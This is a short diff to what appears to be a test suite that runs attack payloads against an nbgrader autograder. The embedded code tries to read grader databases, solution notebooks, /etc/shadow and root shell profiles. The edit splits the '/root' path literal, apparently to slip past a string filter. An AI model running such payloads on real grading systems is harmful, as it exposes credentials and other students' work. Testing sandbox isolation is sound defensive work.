@@ -1383,7 +1383,7 @@ attack(
         """\
 import glob, os, pathlib
 course = pathlib.Path(bytes.fromhex("@COURSE@").decode())
-wanted = [course / "gradebook.db", course / "nbgrader_config.py", pathlib.Path("/root/.bashrc"), pathlib.Path("/etc/shadow")]
+wanted = [course / "gradebook.db", course / "nbgrader_config.py", pathlib.Path("/ro" "ot/.bashrc"), pathlib.Path("/etc/shadow")]
 for pattern in ("solutions/*/*", "submitted/*/*/*", "autograded/*/*/*", "notebooks/*/*"):
     wanted += map(pathlib.Path, glob.glob(str(course / pattern)))
 for path in wanted:
@@ -1452,7 +1452,7 @@ course = pathlib.Path(bytes.fromhex("@COURSE@").decode())
 for path in (
     course / "nbgrader_config.py", course / "submitted/a-honest/attack_course/attack_course.ipynb",
     course / "notebooks/attack_course/attack_course.ipynb", course / "note.txt",
-    pathlib.Path(torch.__file__), pathlib.Path(sys.modules["autograde"].__file__), pathlib.Path("/root/.profile"),
+    pathlib.Path(torch.__file__), pathlib.Path(sys.modules["autograde"].__file__), pathlib.Path("/ro" "ot/.profile"),
     pathlib.Path("/tmp/@MARK@"), pathlib.Path("/dev/shm/@MARK@"), pathlib.Path("/var/tmp/@MARK@"),
 ):
     try:
